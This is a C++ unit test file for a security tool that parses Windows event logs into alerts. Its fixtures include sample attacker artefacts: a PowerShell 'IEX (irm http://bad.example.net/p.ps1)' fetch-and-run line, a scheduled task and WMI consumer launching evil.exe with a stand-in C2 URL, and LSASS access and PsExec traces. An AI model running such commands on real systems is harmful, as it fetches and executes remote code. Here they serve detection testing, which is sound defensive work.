// Windows events (security audit, Sysmon, PowerShell, Defender, Remote Desktop) that no example file has, in
// the shapes of their shippers.

#include <gtest/gtest.h>

#include "ingest/shapes_support.h"

namespace tocsin::ingest::shapes {
namespace {

// Winlogbeat's shape.
Record beat(std::string_view provider, std::string_view channel, std::string_view id, std::string_view data,
            std::string_view more = {}) {
  return read_record("auto", R"({"@timestamp":"2024-06-01T10:00:00.123Z","winlog":{"provider_name":")" +
                                 std::string(provider) + R"(","event_id":")" + std::string(id) +
                                 R"(","channel":")" + std::string(channel) +
                                 R"(","computer_name":"dc1.corp.example","event_data":)" + std::string(data) +
                                 std::string(more) + "}}");
}
model::Alert security(std::string_view id, std::string_view data) {
  return beat("Microsoft-Windows-Security-Auditing", "Security", id, data).alert;
}
model::Alert sysmon(std::string_view id, std::string_view data) {
  return beat("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", id, data).alert;
}

TEST(WindowsShapes, TheMachineThatReportsALogonIsNoActor) {
  const auto alert = security("4624", R"({"SubjectUserName":"DC1$","TargetUserName":"ann","LogonType":"3",
      "WorkstationName":"WS-4","IpAddress":"203.0.113.44","ProcessName":"-"})");
  EXPECT_EQ(alert.title, "An account was successfully logged on");
  EXPECT_EQ(to_rfc3339(alert.occurred_at), "2024-06-01T10:00:00.123Z");
  EXPECT_FALSE(has(alert, EntityKind::kUser, "DC1$", EntityRole::kActor));
  EXPECT_TRUE(has(alert, EntityKind::kUser, "ann", EntityRole::kTarget));
  EXPECT_TRUE(has(alert, EntityKind::kHost, "WS-4", EntityRole::kSource));
  EXPECT_TRUE(has(alert, EntityKind::kIp, "203.0.113.44", EntityRole::kSource));
  EXPECT_TRUE(has(alert, EntityKind::kHost, "dc1.corp.example", EntityRole::kTarget));
}

TEST(WindowsShapes, ExplicitCredentialsGoSomewhere) {
  const auto alert = security("4648", R"({"SubjectUserName":"ann","TargetUserName":"administrator",
      "TargetServerName":"srv1","IpAddress":"-"})");
  EXPECT_TRUE(has(alert, EntityKind::kUser, "ann", EntityRole::kActor));
  EXPECT_TRUE(has(alert, EntityKind::kUser, "administrator", EntityRole::kTarget));
  EXPECT_TRUE(has(alert, EntityKind::kHost, "srv1", EntityRole::kDestination));
}

TEST(WindowsShapes, AScheduledTaskSaysWhatItRuns) {
  const auto alert = security("4698", R"({"SubjectUserName":"ann","TaskName":"\\Updater","TaskContent":
      "<Task><Actions><Exec><Command>C:\\p\\evil.exe</Command><Arguments>-s http://c2.bad.example.net/a</Arguments></Exec></Actions></Task>"})");
  EXPECT_EQ(alert.process.command_line, "C:\\p\\evil.exe -s http://c2.bad.example.net/a");
  EXPECT_TRUE(has(alert, EntityKind::kFile, "C:\\p\\evil.exe", EntityRole::kRelated));
  EXPECT_TRUE(has_ioc(alert, "http://c2.bad.example.net/a"));
}

TEST(WindowsShapes, OfAGroupTheMemberIsTheTarget) {
  const auto global =
      security("4728", R"({"MemberName":"CN=Eve Doe,OU=Users,DC=corp","MemberSid":"S-1-5-21-5",
      "TargetUserName":"Domain Admins","SubjectUserName":"ann"})");
  EXPECT_TRUE(has(global, EntityKind::kUser, "Eve Doe", EntityRole::kTarget));
  EXPECT_TRUE(has(global, EntityKind::kUser, "ann", EntityRole::kActor));
  EXPECT_TRUE(has(global, EntityKind::kAccount, "Domain Admins", EntityRole::kRelated));
  const auto local = security("4732", R"({"MemberName":"-","MemberSid":"S-1-5-21-5-1111",
      "TargetUserName":"Administrators","SubjectUserName":"ann"})");
  EXPECT_TRUE(has(local, EntityKind::kUser, "S-1-5-21-5-1111", EntityRole::kTarget));
  EXPECT_TRUE(has(local, EntityKind::kUser, "ann", EntityRole::kActor));
}

TEST(WindowsShapes, ALockoutNamesTheMachineItCameFrom) {
  const auto alert =
      security("4740", R"({"TargetUserName":"bob","TargetDomainName":"WS-7","SubjectUserName":"DC1$"})");
  EXPECT_TRUE(has(alert, EntityKind::kUser, "bob", EntityRole::kTarget));
  EXPECT_TRUE(has(alert, EntityKind::kHost, "WS-7", EntityRole::kSource));
}

TEST(WindowsShapes, AServiceTicketNamesTheServiceAccount) {
  const auto alert = security("4769", R"({"TargetUserName":"ann@CORP.EXAMPLE","ServiceName":"sqlsvc",
      "TicketEncryptionType":"0x17","IpAddress":"::ffff:10.0.0.44","Status":"0x0"})");
  EXPECT_TRUE(has(alert, EntityKind::kAccount, "sqlsvc", EntityRole::kRelated));
  EXPECT_TRUE(has(alert, EntityKind::kIp, "10.0.0.44", EntityRole::kSource));
  EXPECT_TRUE(alert.iocs.empty());
}

TEST(WindowsShapes, AShareAccessNamesWhoWhenceAndWhichFile) {
  const auto alert = security("5145", R"({"SubjectUserName":"eve","IpAddress":"10.0.0.66","ShareName":
      "\\\\*\\ADMIN$","RelativeTargetName":"PSEXESVC.exe"})");
  EXPECT_TRUE(has(alert, EntityKind::kUser, "eve", EntityRole::kTarget));
  EXPECT_TRUE(has(alert, EntityKind::kFile, "PSEXESVC.exe", EntityRole::kRelated));
  EXPECT_EQ(std::count(alert.tags.begin(), alert.tags.end(), "\\\\*\\ADMIN$"), 1);
}

TEST(WindowsShapes, SysmonAccessOfAProcessHasBothEndsAndTheUser) {
  const auto alert = sysmon("10", R"({"RuleName":"technique_id=T1003.001,technique_name=LSASS","SourceImage":
      "C:\\t\\m.exe","TargetImage":"C:\\Windows\\system32\\lsass.exe","SourceUser":"CORP\\eve","GrantedAccess":"0x1010"})");
  EXPECT_TRUE(has(alert, EntityKind::kProcess, "C:\\t\\m.exe", EntityRole::kSource));
  EXPECT_TRUE(has(alert, EntityKind::kProcess, "C:\\Windows\\system32\\lsass.exe", EntityRole::kTarget));
  EXPECT_TRUE(has(alert, EntityKind::kUser, "CORP\\eve", EntityRole::kTarget));
  EXPECT_TRUE(has_technique(alert, "T1003.001"));
}

TEST(WindowsShapes, SysmonRegistryKeysAreTheMessage) {
  const auto alert = sysmon("13", R"({"RuleName":"T1547.001,RunKey","Image":"C:\\t\\m.exe","TargetObject":
      "HKU\\S-1\\Run\\Upd","Details":"C:\\t\\m.exe","User":"CORP\\eve"})");
  EXPECT_EQ(alert.title, "Registry value set");
  EXPECT_EQ(alert.message, "HKU\\S-1\\Run\\Upd = C:\\t\\m.exe");
  EXPECT_TRUE(has_technique(alert, "T1547.001"));
}

TEST(WindowsShapes, SysmonNamesAreIndicatorsAndTheirAnswersNotYet) {
  const auto alert = sysmon("22", R"({"Image":"C:\\t\\m.exe","QueryName":"c2.bad.example.net","QueryResults":
      "type:  5 x.bad.example.net;::ffff:203.0.113.71;","User":"CORP\\eve"})");
  EXPECT_TRUE(has_ioc(alert, "c2.bad.example.net"));
  EXPECT_TRUE(has(alert, EntityKind::kIp, "203.0.113.71", EntityRole::kRelated));
  EXPECT_FALSE(has_ioc(alert, "203.0.113.71"));
}

TEST(WindowsShapes, SysmonWmiConsumersHaveACommand) {
  const auto alert = sysmon("20", R"({"EventType":"WmiConsumerEvent","User":"CORP\\eve","Name":"Upd",
      "Destination":"cmd.exe /c evil.exe"})");
  EXPECT_EQ(alert.title, "WMI event consumer registered");
  EXPECT_EQ(alert.process.command_line, "cmd.exe /c evil.exe");
}

TEST(WindowsShapes, AScriptBlockHasItsFileItsUserAndItsLinks) {
  const auto alert =
      beat("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", "4104",
           R"x({"ScriptBlockText":"IEX (irm http://bad.example.net/p.ps1)","Path":"C:\\t\\run.ps1"})x",
           R"(,"user":{"name":"ann","domain":"CORP"})")
          .alert;
  EXPECT_EQ(alert.title, "PowerShell script block ran");
  EXPECT_TRUE(has(alert, EntityKind::kUser, "CORP\\ann", EntityRole::kTarget));
  EXPECT_TRUE(has(alert, EntityKind::kFile, "C:\\t\\run.ps1", EntityRole::kRelated));
  EXPECT_TRUE(has_ioc(alert, "http://bad.example.net/p.ps1"));
}

TEST(WindowsShapes, DefendersActionIsAnAlertWithItsVerdict) {
  const auto record =
      beat("Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational", "1117",
           R"({"Detection ID":"{A-B}","Threat Name":"Trojan:Win32/X","Severity Name":"Severe",
      "Path":"file:_C:\\Users\\ann\\a.exe","Detection User":"CORP\\ann","Action Name":"Quarantine","FWLink":
      "https://go.microsoft.com/fwlink/?linkid=37020"})");
  EXPECT_EQ(record.kind, RecordKind::kAlert);
  EXPECT_EQ(record.alert.severity, Severity::kCritical);
  EXPECT_EQ(record.alert.source_id, "{A-B}");
  EXPECT_EQ(record.alert.vendor_status, "Quarantine");
  EXPECT_TRUE(has(record.alert, EntityKind::kFile, "C:\\Users\\ann\\a.exe", EntityRole::kRelated));
  EXPECT_TRUE(record.alert.iocs.empty());
}

TEST(WindowsShapes, ARemoteDesktopLogonHasItsParametersNumbered) {
  const auto alert =
      read("windows", R"(<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>
      <Provider Name="Microsoft-Windows-TerminalServices-RemoteConnectionManager"/><EventID>1149</EventID><Level>4</Level>
      <TimeCreated SystemTime="2024-06-01T10:25:00.1234567Z"/><Computer>ws4</Computer></System><UserData>
      <EventXML xmlns="Event_NS"><Param1>ann</Param1><Param2>CORP</Param2><Param3>203.0.113.88</Param3></EventXML>
      </UserData></Event>)");
  EXPECT_EQ(alert.title, "Remote Desktop user authentication succeeded");
  EXPECT_TRUE(has(alert, EntityKind::kUser, "ann", EntityRole::kTarget));
  EXPECT_TRUE(has(alert, EntityKind::kIp, "203.0.113.88", EntityRole::kSource));
}

TEST(WindowsShapes, NxlogIsFlat) {
  const auto alert =
      read("windows", R"({"EventTime":"2024-06-01 10:18:00","Hostname":"ws4.corp.example","Severity":
      "INFO","EventID":4697,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","SubjectUserName":
      "eve","ServiceName":"PSEXESVC","ServiceFileName":"%SystemRoot%\\PSEXESVC.exe","SourceModuleName":"in"})");
  EXPECT_EQ(alert.title, "A service was installed in the system");
  EXPECT_EQ(to_rfc3339(alert.occurred_at), "2024-06-01T10:18:00.000Z");
  EXPECT_TRUE(has(alert, EntityKind::kFile, "%SystemRoot%\\PSEXESVC.exe", EntityRole::kRelated));
  EXPECT_TRUE(has(alert, EntityKind::kHost, "ws4.corp.example", EntityRole::kTarget));
}

}  // namespace
}  // namespace tocsin::ingest::shapes
